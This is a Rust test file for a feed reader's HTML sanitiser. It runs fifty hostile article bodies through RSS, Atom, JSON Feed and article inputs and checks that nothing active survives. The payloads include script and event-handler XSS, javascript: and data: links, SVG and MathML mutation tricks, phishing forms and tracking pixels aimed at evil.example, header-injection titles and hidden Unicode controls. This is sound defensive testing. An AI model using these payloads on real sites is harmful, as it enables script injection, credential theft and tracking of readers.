//! Fifty hostile articles through every door: nothing active comes through, what can be read does.

mod mail;

use paperround::feeds::ParsedEntry;
use paperround::feeds::parse::parse;
use paperround::services::article_input;

/// A name, the attack, and whether what stands behind it can still be read.
const ATTACKS: [(&str, &str, bool); 50] = [
    ("script", "<script>steal()</script>", true),
    (
        "script in capitals",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        true,
    ),
    ("script with a slash", "<script/x>steal()</script/x>", true),
    (
        "script in script",
        "<scr<script>ipt>steal()</scr</script>ipt>",
        true,
    ),
    ("script without an end", "<script>steal()", false),
    ("handler of a picture", "<img src=x onerror=steal()>", true),
    (
        "handler behind a slash",
        "<img/src=x/onerror=steal()>",
        true,
    ),
    (
        "handler behind a form feed",
        "<img src=x\u{c}onerror=steal()>",
        true,
    ),
    (
        "handler in quotes of its own",
        "<img alt=\"'\" title='\"onerror=steal()//' src=x>",
        true,
    ),
    ("handler of the body", "<body onload=steal()>", true),
    (
        "handler of details",
        "<details open ontoggle=steal()>x</details>",
        true,
    ),
    (
        "handler of an animation",
        "<p style=animation-name:x onanimationstart=steal()>x</p>",
        true,
    ),
    ("focus by itself", "<input autofocus onfocus=steal()>", true),
    (
        "overlay",
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</div>",
        true,
    ),
    (
        "overlaying link",
        "<a style='position:absolute;inset:0;opacity:0' href='https://evil.example/'>x</a>",
        true,
    ),
    (
        "style sheet",
        "<style>*{background:url(https://evil.example/pixel)}</style>",
        true,
    ),
    ("style without an end", "<style>body{display:none}", false),
    (
        "imported style",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        true,
    ),
    (
        "expression",
        "<p style='width:expression(steal())'>x</p>",
        true,
    ),
    (
        "javascript link",
        "<a href='javascript:steal()'>x</a>",
        true,
    ),
    (
        "javascript link in pieces",
        "<a href='jav&#x0A;ascript&colon;steal()'>x</a>",
        true,
    ),
    (
        "javascript link behind a control character",
        "<a href='&#1;javascript:steal()'>x</a>",
        true,
    ),
    (
        "javascript link in capitals",
        "<a href=JaVaScRiPt:steal()>x</a>",
        true,
    ),
    ("vbscript link", "<a href='vbscript:steal()'>x</a>", true),
    (
        "data link",
        "<a href='data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+'>x</a>",
        true,
    ),
    (
        "data picture",
        "<img src='data:image/svg+xml,<svg onload=steal()>'>",
        true,
    ),
    (
        "blob link",
        "<a href='blob:https://evil.example/1'>x</a>",
        true,
    ),
    ("file link", "<a href='file:///etc/passwd'>x</a>", true),
    (
        "link with a password",
        "<a href='https://bank.example@evil.example/'>x</a>",
        true,
    ),
    ("SVG", "<svg><g onload=steal()></g></svg>", true),
    (
        "SVG script",
        "<svg><script href='data:,steal()'/></svg>",
        true,
    ),
    (
        "SVG animation",
        "<svg><a><animate attributeName=href values=javascript:steal() /><text>x</text></a></svg>",
        true,
    ),
    (
        "SVG foreign object",
        "<svg><foreignObject><iframe srcdoc='<script>steal()</script>'></foreignObject></svg>",
        true,
    ),
    (
        "MathML",
        "<math href='javascript:steal()'><mtext>x</mtext></math>",
        true,
    ),
    (
        "MathML mutation",
        "<math><mtext><table><mglyph><style><math><table id='</table>'><img src onerror=steal()>'>",
        false,
    ),
    (
        "form",
        "<form action=https://evil.example/><input name=password type=password><button>x</button></form>",
        true,
    ),
    (
        "form by attribute",
        "<button form=f formaction=javascript:steal()>x</button>",
        true,
    ),
    (
        "refresh",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        true,
    ),
    (
        "base",
        "<base href='https://evil.example/'><a href='login'>x</a>",
        true,
    ),
    (
        "frame",
        "<iframe src='https://evil.example/'></iframe>",
        true,
    ),
    (
        "object",
        "<object data='https://evil.example/x.swf'><embed src=x></object>",
        true,
    ),
    (
        "template",
        "<template><img src=x onerror=steal()></template>",
        true,
    ),
    (
        "noscript",
        "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
        true,
    ),
    (
        "comment",
        "<!--[if mso]><script>steal()</script><![endif]-->",
        true,
    ),
    (
        "comment that closes early",
        "<!--><img src=x onerror=steal()>-->",
        true,
    ),
    (
        "entities of tags",
        "&lt;script&gt;steal()&lt;/script&gt;",
        true,
    ),
    (
        "direction",
        "\u{202e}gnp.exe\u{202c} \u{2066}a\u{2069}\u{200f}",
        true,
    ),
    (
        "zero width",
        "pay\u{200b}pal \u{feff}\u{2060}\u{ad}x\u{e0041}\u{e007f}",
        true,
    ),
    (
        "counting pixel",
        "<img src='https://evil.example/pixel.gif' width=1 height=1>",
        true,
    ),
    (
        "giant picture",
        "<img src='https://evil.example/g.png' width=99999 height=99999 style='width:99999px'>",
        true,
    ),
];

const BEFORE: &str = "Readable before.";
const AFTER: &str = "Readable after.";

/// The elements that do nothing but shape text, by the HTML Standard (4.3 to 4.5): they load
/// nothing, start nothing and hold no state.
const SHAPING: &str = " a abbr b bdi blockquote br cite code dd del dfn div dl dt em h1 h2 h3 h4 h5 \
    h6 hr i ins kbd li mark ol p pre q s samp small span strong sub sup u ul var wbr ";

/// Reads HTML as strictly as it must have been written: a complaint is whatever is not an element
/// that shapes text, and every attribute but the address of a link.
fn complaint(html: &str) -> Option<String> {
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        let Some((tag, after)) = rest[at + 1..].split_once('>') else {
            return Some(format!("an open tag: {}", &rest[at..]));
        };
        rest = after;
        let name = tag.trim_start_matches('/');
        let (name, attributes) = name.split_once(' ').unwrap_or((name, ""));
        if !SHAPING.contains(&format!(" {name} ")) {
            return Some(format!("<{tag}>"));
        }
        let mut quoted = attributes.split('"');
        while let (Some(name), Some(value)) = (quoted.next(), quoted.next()) {
            let sound = match name.trim() {
                "href=" => ["https://", "http://", "mailto:"]
                    .iter()
                    .any(|s| value.starts_with(s)),
                "rel=" => value == "noopener",
                _ => false,
            };
            if !sound {
                return Some(format!("{name}\"{value}\" in <{tag}>"));
            }
        }
    }
    None
}

/// Characters that steer what a reader sees without being seen.
fn steers(text: &str) -> bool {
    text.chars().any(|c| {
        matches!(c, '\u{ad}' | '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}'
            | '\u{2060}'..='\u{2069}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
            || (c.is_control() && c != '\n')
    })
}

struct Seen<'a> {
    title: &'a str,
    html: &'a str,
    text: &'a str,
    image: Option<&'a str>,
    authors: &'a [String],
    url: &'a str,
}

fn check(door: &str, name: &str, seen: &Seen<'_>, has_after: bool) -> Vec<String> {
    let mut wrong = Vec::new();
    let mut say = |what: String| wrong.push(format!("{name} by {door}: {what}"));
    if let Some(what) = complaint(seen.html) {
        say(what);
    }
    let lines = [seen.title, seen.url]
        .into_iter()
        .chain(seen.authors.iter().map(String::as_str));
    for line in lines {
        if line.contains(['\n', '\r', '<']) || steers(line) {
            say(format!("{line:?}"));
        }
    }
    if steers(seen.text) || steers(seen.html) {
        say(format!("steered: {:?}", seen.text));
    }
    if !seen.text.contains(BEFORE) || (has_after && !seen.text.contains(AFTER)) {
        say(format!("lost its text: {:?}", seen.text));
    }
    // Code is no text to read, except where it was written as text: what is no HTML to Markdown is
    // text, and so is what a script without an end would swallow.
    let as_text = name == "entities of tags"
        || name.starts_with("script in")
        || name == "script without an end"
        || door == "summary_markdown";
    if seen.text.contains("steal()") && !as_text {
        say(format!("code as text: {:?}", seen.text));
    }
    let picture = seen.image.unwrap_or("https://");
    if !picture.starts_with("https://") || picture.contains("pixel") {
        say(format!("picture {picture}"));
    }
    wrong
}

fn of_entry(entry: &ParsedEntry) -> Seen<'_> {
    Seen {
        title: &entry.title,
        html: &entry.summary_html,
        text: &entry.summary_text,
        image: entry.image_url.as_deref(),
        authors: &entry.authors,
        url: &entry.url,
    }
}

fn escaped(html: &str) -> String {
    html.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// The same article in the feeds of this world.
fn feeds(html: &str) -> [(&'static str, String); 5] {
    let title =
        "Real\r\nBcc: x@evil.example\u{202e}\u{200b} &lt;b onclick=steal()&gt;news&lt;/b&gt;";
    let cdata = html.replace("]]>", "");
    let json = serde_json::json!({
        "version": "https://jsonfeed.org/version/1.1",
        "items": [{
            "id": "1", "url": "https://x.example/1", "title": "Real\r\nBcc: x@evil.example\u{202e}",
            "authors": [{"name": "Ada\r\nX: y <img src=x onerror=steal()>"}], "content_html": html,
        }],
    });
    let rss = |body: String| {
        format!(
            "<rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel><item><guid>1</guid><link>https://x.example/1</link><title>{title}</title><author>Ada &lt;img src=x onerror=steal()&gt;</author>{body}</item></channel></rss>"
        )
    };
    let atom = |kind: &str, body: String| {
        format!(
            "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><id>1</id><link href=\"https://x.example/1\"/><title type=\"html\">{title}</title><content type=\"{kind}\">{body}</content></entry></feed>"
        )
    };
    [
        (
            "RSS, CDATA",
            rss(format!("<description><![CDATA[{cdata}]]></description>")),
        ),
        (
            "RSS, escaped",
            rss(format!(
                "<content:encoded>{}</content:encoded>",
                escaped(html)
            )),
        ),
        ("Atom, html", atom("html", escaped(html))),
        ("Atom, CDATA", atom("html", format!("<![CDATA[{cdata}]]>"))),
        ("JSON Feed", json.to_string()),
    ]
}

#[test]
fn nothing_active_comes_through_any_door() {
    let mut wrong = Vec::new();
    for (name, attack, has_after) in ATTACKS {
        let html = format!("<p>{BEFORE}</p>{attack}<p>{AFTER}</p>");
        for (door, feed) in feeds(&html) {
            let read = parse(feed.as_bytes(), None).unwrap();
            wrong.extend(check(door, name, &of_entry(&read.entries[0]), has_after));
        }
        for field in ["summary_html", "summary_markdown"] {
            let markdown = format!("{BEFORE}\n\n{attack}\n\n{AFTER}");
            let body = if field == "summary_html" {
                &html
            } else {
                &markdown
            };
            let json = serde_json::json!({
                "title": "Real\r\nBcc: x@evil.example\u{202e}\u{200b}<img src=x onerror=steal()>",
                "url": "https://x.example/1", "authors": ["Ada\r\nX: y"], field: body,
            });
            let read = article_input::read(json.to_string().as_bytes(), &[]).unwrap();
            let content = &read[0].content;
            let seen = Seen {
                title: &content.title,
                html: &content.summary_html,
                text: &content.summary_text,
                image: None,
                authors: &content.authors,
                url: &content.url,
            };
            wrong.extend(check(field, name, &seen, has_after));
        }
    }
    assert!(wrong.is_empty(), "{}:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn the_check_sees_what_it_must() {
    for bad in [
        "<script>x</script>",
        "<p onclick=\"x\">a</p>",
        "<a href=\"javascript:x\">a</a>",
        "<a href=\"https://x\" style=\"x\">a</a>",
        "<p",
        "<p><img src=\"https://x\"></p>",
    ] {
        assert!(complaint(bad).is_some(), "{bad}");
    }
    assert_eq!(
        complaint("<p>a <a href=\"https://x/\" rel=\"noopener\">b</a> &lt;c&gt;</p>"),
        None
    );
    assert!(steers("a\u{202e}b") && !steers("a\nb"));
}
